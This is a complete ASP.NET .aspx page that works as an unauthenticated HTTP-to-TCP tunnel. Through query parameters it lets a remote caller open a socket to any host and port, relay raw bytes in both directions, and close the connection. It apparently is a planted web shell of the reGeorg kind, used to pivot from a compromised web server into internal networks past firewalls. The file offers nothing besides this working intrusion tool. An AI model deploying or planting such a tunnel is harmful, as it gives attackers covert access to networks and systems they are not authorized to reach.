<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string cmd = (Request.QueryString["cmd"] ?? "").ToLower();
    if (cmd == "connect")
    {
        IPAddress ip = Dns.GetHostAddresses(Request.QueryString["host"])[0];
        var sock = new Socket(ip.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
        sock.Connect(ip, Convert.ToInt32(Request.QueryString["port"]));
        Session["s"] = sock;
        Response.Write("[ok]");
    }
    else if (cmd == "forward")
    {
        var sock = (Socket)Session["s"];
        byte[] data = Request.BinaryRead(Request.TotalBytes);
        sock.Send(data);
    }
    else if (cmd == "read")
    {
        var sock = (Socket)Session["s"];
        byte[] buf = new byte[16384];
        if (sock.Poll(100000, SelectMode.SelectRead))
        {
            int n = sock.Receive(buf);
            Response.OutputStream.Write(buf, 0, n);
        }
    }
    else if (cmd == "disconnect")
    {
        var sock = Session["s"] as Socket;
        if (sock != null) { sock.Shutdown(SocketShutdown.Both); sock.Close(); }
        Session.Remove("s");
    }
}
</script>
